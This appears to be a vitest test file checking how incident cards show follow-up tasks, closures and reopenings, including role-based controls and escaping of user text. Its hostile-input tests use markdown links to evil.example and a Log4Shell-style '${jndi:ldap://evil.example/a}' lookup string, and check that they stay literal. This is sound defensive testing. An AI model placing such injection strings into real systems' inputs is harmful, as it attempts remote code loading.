import { describe, expect, it } from 'vitest';
import type { IncidentStatus } from '../../src/domain/incident.ts';
import type { Closure, Reopening, Task } from '../../src/domain/lifecycle.ts';
import { incidentCard, plainText, type IncidentCardOptions } from '../../src/views/index.ts';
import { INCIDENT_INPUTS, INCIDENT_VERBS } from '../../src/contract/cards.ts';
import { DOWNLOAD_ACTION, actions, body, elements, inputById, inputs, problems, shape, siblings, textBlocks, texts, type Json } from '../support/cardChecks.ts';
import { CLOSURE, DECISIONS, FOLLOW_USER_TEXT, HOSTILE, HOSTILE_SHORT, LATER, MANAGER, OWNER, REPORTER, TASKS, USER_TEXT, closed, decided, followedUp, options, routed } from '../support/incidentSamples.ts';
import { all, executeNamed, executes, expectFollowUpData, liveMarkdown, section, showCard, showCards, taskContainer, taskDoneActions, verbsIn } from '../support/incidentCardChecks.ts';

/** After the decision (src/views/incidentFollowThrough.ts): follow-up tasks, closing, the closure and reopenings. */

describe('incident card: follow-up tasks', () => {
  it.each(['decider', 'readonly'] as const)('%s view: each task with its owner, due time, status; overdue in attention colour', (view) => {
    const incident = followedUp();
    const card = incidentCard(incident, options({ view, now: LATER }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(texts(card)).toContain('Follow-up tasks');
    expect(texts(card)).toContain('3 follow-up tasks: 1 done, 2 open, 1 overdue.');
    expect(texts(taskContainer(card, TASKS[0]!.title)!)).toEqual(
      expect.arrayContaining(['Report the post to the platform', 'Open · Owner: Mary Owner', 'OVERDUE by 1 h (due 3 Nov 2026, 16:00)']),
    );
    expect(textBlocks(card).find((t) => t.text === 'OVERDUE by 1 h (due 3 Nov 2026, 16:00)')).toBeDefined();
    expect(textBlocks(card).find((t) => t.text === 'Due in 4 h, by 3 Nov 2026, 21:00')).not.toHaveProperty('color');
    expect(texts(taskContainer(card, TASKS[2]!.title)!)).toEqual([
      'Support the colleague who was targeted',
      'Done · Owner: Pat Manager',
      'Done by Pat Manager on 3 Nov 2026, 16:30 (due 3 Nov 2026, 18:00)',
      plainText(`What happened: ${TASKS[2]!.outcome}`),
    ]);
    // A done task is never overdue, even when its due time has passed.
    const afterAll = incidentCard(incident, options({ view, now: new Date('2026-11-04T12:00:00Z') }));
    expect(texts(taskContainer(afterAll, TASKS[2]!.title)!).join('\n')).not.toMatch(/Overdue/);
    expect(texts(afterAll)).toContain('3 follow-up tasks: 1 done, 2 open, 2 overdue.');
    expect(liveMarkdown(all(card))).toEqual([]);
  });

  it('a task due within the hour is in warning colour; the time is UK time (BST in summer)', () => {
    const summer = followedUp({ tasks: [{ ...TASKS[0]!, dueAt: '2026-07-01T12:30:00Z' }] });
    const card = incidentCard(summer, options({ now: new Date('2026-07-01T12:00:00Z') }));
    expect(textBlocks(card).find((t) => String(t.text).startsWith('Due in'))).toMatchObject({ text: 'Due in 30 min, by 1 Jul 2026, 13:30' });
  });

  it('decider view: every open task can be marked done, in its own collapsed section; done tasks cannot', () => {
    const incident = followedUp();
    const card = incidentCard(incident, options({ now: LATER }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    for (const task of TASKS.slice(0, 2)) {
      const container = taskContainer(card, task.title)!;
      const set = (container.items as Json[]).find((e) => e.type === 'ActionSet')!;
      const showCard = (set.actions as Json[])[0]!;
      expect(showCard).toMatchObject({ type: 'Action.ShowCard', title: 'Mark done', id: `task-${task.id}` });
      const sub = showCard.card as Json;
      expect(inputs(sub)).toEqual([
        expect.objectContaining({ type: 'Input.Text', id: `outcome_${task.id}`, label: 'What happened? (required)', isMultiline: true, maxLength: 1000 }),
      ]);
      expect(String(inputById(sub, `outcome_${task.id}`)!.placeholder)).toMatch(/platform report reference, police reference, MDU advice, the author's reply/i);
      expect(executes(sub).map((a) => [a.title, a.verb, a.data])).toEqual([
        ['Mark done', INCIDENT_VERBS.taskDone, { practiceId: 'wickersley', reference: 'PW-2026-0042', version: 5, taskId: task.id }],
      ]);
    }
    expect(actions(taskContainer(card, TASKS[2]!.title)!)).toEqual([]);
    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t1', 'outcome_t2']);
    // Tasks are not decision sections: nothing is added to the card's own actions.
    expect(showCards(card)).toEqual([]);
  });

  it.each([
    ['the owner', 'aad-owner'],
    ['the owner, with the id in other case', 'AAD-OWNER'],
  ])('read-only view, seen by %s: their task can be marked done, nobody else\'s', (_, viewer) => {
    const incident = followedUp();
    const card = incidentCard(incident, options({ view: 'readonly', viewerAadObjectId: viewer, now: LATER }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t1']);
    expect(taskDoneActions(card).map((a) => (a.data as Json).taskId)).toEqual(['t1']);
    expect(actions(taskContainer(card, TASKS[1]!.title)!)).toEqual([]);
    // Still no decision, close or reopen controls.
    expect(showCards(card)).toEqual([]);
    expect(executes(card).map((a) => a.verb).sort()).toEqual([INCIDENT_VERBS.refresh, INCIDENT_VERBS.taskDone].sort());
  });

  it('read-only view, seen by the reporter asked to post the reply: that task only', () => {
    const card = incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: REPORTER.aadObjectId, now: LATER }));
    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t2']);
  });

  it.each([
    ['someone who owns no task', 'aad-stranger'],
    ['nobody in particular', undefined],
    ['an empty id', ''],
  ])('read-only view, seen by %s: tasks shown, nothing to act on', (_, viewer) => {
    const card = incidentCard(followedUp(), options({ view: 'readonly', now: LATER, ...(viewer === undefined ? {} : { viewerAadObjectId: viewer }) }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(texts(card)).toContain('Report the post to the platform');
    expect(inputs(card)).toEqual([]);
    expect(taskDoneActions(card)).toEqual([]);
    expect(executes(card).map((a) => a.verb)).toEqual([INCIDENT_VERBS.refresh]);
  });

  it('an owner whose task is done has nothing to act on', () => {
    const card = incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: MANAGER.aadObjectId, now: LATER }));
    expect(inputs(card)).toEqual([]);
  });

  it('an error on a task\'s outcome: that task\'s form is open in place, the error right beneath its box', () => {
    const message = 'Say what happened [x](http://evil.example)';
    const incident = followedUp();
    const card = incidentCard(incident, options({ view: 'readonly', viewerAadObjectId: OWNER.aadObjectId, now: LATER, errors: { outcome_t1: message } }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const container = taskContainer(card, TASKS[0]!.title)!;
    expect(elements(container).filter((e) => e.type === 'Action.ShowCard')).toEqual([]);
    const input = inputById(card, 'outcome_t1')!;
    const { list, index } = siblings(card, input);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), weight: 'Bolder' });
    expect(list[index + 2]).toMatchObject({ type: 'ActionSet' });
    expect(elements(container)).toContain(input);
    expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answer below.']);
    expectFollowUpData(card, incident);
  });

  it('an error on a task the viewer cannot act on goes to the top; the other forms stay collapsed', () => {
    const card = incidentCard(followedUp(), options({ now: LATER, errors: { outcome_t3: 'Already done by Pat Manager.' } }));
    expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Already done by Pat Manager.']);
    expect(elements(card).filter((e) => e.type === 'Action.ShowCard').map((a) => a.id)).toEqual(['task-t1', 'task-t2']);
  });

  it('no tasks: no tasks section', () => {
    expect(texts(incidentCard(decided(DECISIONS['no response']!), options()))).not.toContain('Follow-up tasks');
  });
});

describe('incident card: closing', () => {
  it.each(['in-progress', 'resolved'] as const)('%s, canClose: a collapsed "Close the incident" section', (status) => {
    const incident = followedUp({ status });
    const card = incidentCard(incident, options({ now: LATER, canClose: true }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    const section = showCard(card, 'Close the incident')!;
    expect(section).toBeDefined();
    const sub = section.card as Json;
    expect(inputs(sub)).toEqual([
      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.closeOutcome, label: 'Outcome (required)', isMultiline: true, maxLength: 2000 }),
      // Default policy: a personal attack naming staff is medium severity, so lessons are optional.
      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.lessonsLearnt, label: 'Lessons learnt (optional)', isMultiline: true, maxLength: 2000 }),
    ]);
    expect(texts(sub).join(' ')).toMatch(/fed back through practice meetings.*the practice's social media policy/);
    expect(executes(sub).map((a) => [a.title, a.verb])).toEqual([['Close incident', INCIDENT_VERBS.close]]);
  });

  it.each([
    ['critical', true],
    ['high', true],
    ['medium', false],
    ['low', false],
  ] as const)('%s severity: lessons learnt required = %s', (severity, required) => {
    const card = incidentCard(followedUp({ severity }), options({ canClose: true }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(inputById(card, INCIDENT_INPUTS.lessonsLearnt)).toMatchObject({ label: `Lessons learnt (${required ? 'required' : 'optional'})` });
    expect(inputById(card, INCIDENT_INPUTS.lessonsLearnt)).not.toHaveProperty('isRequired');
  });

  it('says how many tasks are still open', () => {
    const sub = showCard(incidentCard(followedUp(), options({ canClose: true })), 'Close the incident')!.card as Json;
    expect(texts(sub)[0]).toMatch(/^2 follow-up tasks are still open/);
    const resolved = followedUp({ status: 'resolved', tasks: [TASKS[2]!] });
    expect(texts(showCard(incidentCard(resolved, options({ canClose: true })), 'Close the incident')!.card as Json)[0]).toBe('Record how it ended. A manager can reopen it later.');
  });

  it.each([
    ['without canClose', followedUp(), {}],
    ['canClose false', followedUp(), { canClose: false }],
    ['awaiting a decision', routed(), { canClose: true }],
    ['already closed', closed(), { canClose: true }],
  ] as const)('no close section %s', (_, incident, extra) => {
    const card = incidentCard(incident, options(extra));
    expect(showCard(card, 'Close the incident')).toBeUndefined();
    expect(executeNamed(card, INCIDENT_VERBS.close)).toEqual([]);
    expect(inputById(card, INCIDENT_INPUTS.closeOutcome)).toBeUndefined();
  });

  it.each([INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt])('an error on %s: the section opens in the body, the error beneath the box', (id) => {
    const message = `Problem [x](http://evil.example) with ${id}`;
    const card = incidentCard(followedUp(), options({ canClose: true, errors: { [id]: message } }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(showCard(card, 'Close the incident')).toBeUndefined();
    const open = section(card, 'incident-close')!;
    expect(texts(open)[0]).toBe('Close the incident');
    const { list, index } = siblings(card, inputById(card, id)!);
    expect(list).toBe(open.items);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), weight: 'Bolder' });
    expect(verbsIn(open)).toEqual([INCIDENT_VERBS.close]);
  });
});

describe('incident card: closed and reopened', () => {
  it.each(['decider', 'readonly'] as const)('%s view: the closure, escaped: outcome, lessons learnt, who and when', (view) => {
    const card = incidentCard(closed(), options({ view }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const list = texts(card);
    const at = list.indexOf('Closed');
    expect(list.slice(at, at + 6)).toEqual([
      'Closed',
      'Closed by Pat Manager on 5 Nov 2026, 09:30',
      'Outcome',
      plainText(CLOSURE.outcome),
      'Lessons learnt',
      plainText(CLOSURE.lessonsLearnt),
    ]);
    expect(texts(card).some((t) => t.startsWith('Closed · reported '))).toBe(true);
    expect(liveMarkdown(all(card))).toEqual([]);
  });

  it('no lessons learnt recorded: says so', () => {
    const { lessonsLearnt: _none, ...closure } = CLOSURE;
    expect(texts(incidentCard(closed({ closure }), options()))).toContain('None recorded.');
  });

  it('reopenings: who, when and why, escaped, most recent last; more than five are counted', () => {
    const reopenings: Reopening[] = Array.from({ length: 7 }, (_, i) => ({ by: MANAGER, at: `2026-11-0${i + 1}T10:00:00Z`, reason: `Reason ${i} **again** [x](http://evil.example)` }));
    const card = incidentCard(followedUp({ reopenings }), options({ view: 'readonly' }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const list = texts(card);
    expect(actions(card).find((a) => a.title === 'History: 7 reopenings')).toMatchObject({ type: 'Action.ToggleVisibility', targetElements: ['history'] });
    // "History: 7 reopenings" is the toggle's title, not a text block: the list starts with the count.
    expect(list).not.toContain('History: 7 reopenings');
    const at = list.indexOf('2 earlier reopenings are kept in the record.');
    expect(at).toBeGreaterThan(0);
    expect(list.slice(at + 1, at + 3)).toEqual(['Reopened by Pat Manager on 3 Nov 2026, 10:00', plainText('Reason: Reason 2 **again** [x](http://evil.example)')]);
    expect(list.filter((t) => t.startsWith('Reopened by '))).toHaveLength(5);
    expect(list.filter((t) => t.startsWith('Reopened by ')).at(-1)).toBe('Reopened by Pat Manager on 7 Nov 2026, 10:00');
  });

  it('closed, canReopen: a collapsed Reopen section with a required reason', () => {
    const incident = closed();
    const card = incidentCard(incident, options({ view: 'readonly', canReopen: true }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    const sub = showCard(card, 'Reopen')!.card as Json;
    expect(inputs(sub)).toEqual([expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.reopenReason, label: 'Why reopen it? (required)', maxLength: 2000 })]);
    expect(executes(sub).map((a) => [a.title, a.verb])).toEqual([['Reopen', INCIDENT_VERBS.reopen]]);
    expect(texts(sub)[0]).toBe('It goes back to "In progress"; the reason is kept with the record.');
  });

  it.each([
    ['closed, without canReopen', closed(), {}],
    ['in progress, canReopen', followedUp(), { canReopen: true }],
    ['resolved, canReopen', followedUp({ status: 'resolved' }), { canReopen: true }],
  ] as const)('no Reopen: %s', (_, incident, extra) => {
    const card = incidentCard(incident, options(extra));
    expect(showCard(card, 'Reopen')).toBeUndefined();
    expect(executeNamed(card, INCIDENT_VERBS.reopen)).toEqual([]);
    expect(inputById(card, INCIDENT_INPUTS.reopenReason)).toBeUndefined();
  });

  it('an error on the reason: Reopen opens in the body, the error beneath the box', () => {
    const card = incidentCard(closed(), options({ canReopen: true, errors: { reopenReason: 'Say why [x](http://evil.example)' } }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const open = section(card, 'incident-reopen')!;
    const { list, index } = siblings(card, inputById(card, INCIDENT_INPUTS.reopenReason)!);
    expect(list).toBe(open.items);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText('Say why [x](http://evil.example)'), weight: 'Bolder' });
  });

  it('a closed incident offers neither decisions nor marking tasks done', () => {
    const card = incidentCard(closed(), options({ canReopen: true, canClose: true }));
    expect(inputs(card).map((i) => i.id)).toEqual([INCIDENT_INPUTS.reopenReason]);
  });
});

describe('incident card: follow-through text is data', () => {
  function pair(view: IncidentCardOptions['view'], status: IncidentStatus): [Json, Json] {
    const make = (t: (s: string) => string) => {
      const tasks: Task[] = [
        { ...TASKS[0]!, title: t(HOSTILE_SHORT), owner: { ...OWNER, name: t(HOSTILE_SHORT) } },
        { ...TASKS[2]!, outcome: t(HOSTILE), doneBy: { ...MANAGER, name: t(HOSTILE_SHORT) } },
      ];
      const closure: Closure = { outcome: t(HOSTILE), lessonsLearnt: t(HOSTILE), closedBy: { ...MANAGER, name: t(HOSTILE_SHORT) }, closedAt: '2026-11-05T09:30:00Z' };
      const reopenings: Reopening[] = [{ by: { ...MANAGER, name: t(HOSTILE_SHORT) }, at: '2026-11-04T09:00:00Z', reason: t(HOSTILE) }];
      const incident = followedUp({ status, tasks: status === 'closed' ? tasks.map((x) => ({ ...x, status: 'done' as const })) : tasks, reopenings, ...(status === 'closed' ? { closure } : {}) });
      return incidentCard(
        incident,
        options({
          view,
          viewerAadObjectId: OWNER.aadObjectId,
          canClose: true,
          canReopen: true,
          now: LATER,
          errors: { outcome_t1: t(HOSTILE_SHORT), closeOutcome: t(HOSTILE_SHORT), lessonsLearnt: t(HOSTILE_SHORT), reopenReason: t(HOSTILE_SHORT) },
        }),
      );
    };
    return [make((x) => x), make((x) => x.replace(/[^\n]/g, 'a'))];
  }

  it.each([
    ['decider', 'in-progress'],
    ['readonly', 'in-progress'],
    ['decider', 'closed'],
    ['readonly', 'closed'],
  ] as const)('%s, %s: outcomes, lessons, reasons and names stay literal', (view, status) => {
    const [hostile, benign] = pair(view, status);
    expect(problems(hostile, { userText: USER_TEXT })).toEqual([]);
    expect(shape(hostile)).toEqual(shape(benign));
    const shown = all(hostile);
    expect(liveMarkdown(shown)).toEqual([]);
    expect(shown).toContain('${jndi:ldap://evil.example/a}');
    expect(shown).not.toContain('Shortened to fit');
    expect(texts(hostile)).toContain(plainText(`Reason: ${HOSTILE}`));
    // The done task's outcome on both; the closure's outcome and lessons learnt once closed.
    expect(texts(hostile)).toContain(plainText(`What happened: ${HOSTILE}`));
    expect(texts(hostile).filter((t) => t === plainText(HOSTILE))).toHaveLength(status === 'closed' ? 2 : 0);
    expect(JSON.stringify(hostile)).not.toContain('"Action.OpenUrl","url"');
  });
});

describe('the card checker: follow-through verbs and the download link', () => {
  const good = () => incidentCard(followedUp(), options({ now: LATER }));
  const taskDone = (c: Json) => taskDoneActions(c)[0]!;
  const broken: Array<[string, (c: Json) => void, RegExp]> = [
    ['taskDone without its taskId', (c) => delete (taskDone(c).data as Json).taskId, /not exactly practiceId,reference,version,taskId/],
    ['taskDone with an empty taskId', (c) => ((taskDone(c).data as Json).taskId = ''), /taskId is not a non-empty string/],
    ['taskDone with the owner in its data', (c) => ((taskDone(c).data as Json).owner = 'aad-owner'), /not exactly/],
    ['a taskId on another incident verb', (c) => ((executeNamed(c, INCIDENT_VERBS.pack)[0]!.data as Json).taskId = 't1'), /not exactly practiceId,reference,version$/m],
    ['a register.page without a page', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.Execute', title: 'Next', verb: 'register.page', data: {} }), /page/],
    ['a register.page with a page as text', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.Execute', title: 'Next', verb: 'register.page', data: { page: '1' } }), /page is not a whole number/],
    ['the download link on the incident card', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.OpenUrl', ...DOWNLOAD_ACTION, url: 'https://postwatch.example/p' }), /only allowed on the evidence pack card/],
  ];
  it('passes the good card', () => expect(problems(good(), { userText: FOLLOW_USER_TEXT })).toEqual([]));
  it.each(broken)('catches %s', (_, breakIt, expected) => {
    const card = structuredClone(good());
    breakIt(card);
    expect(problems(card).join('\n')).toMatch(expected);
  });
});
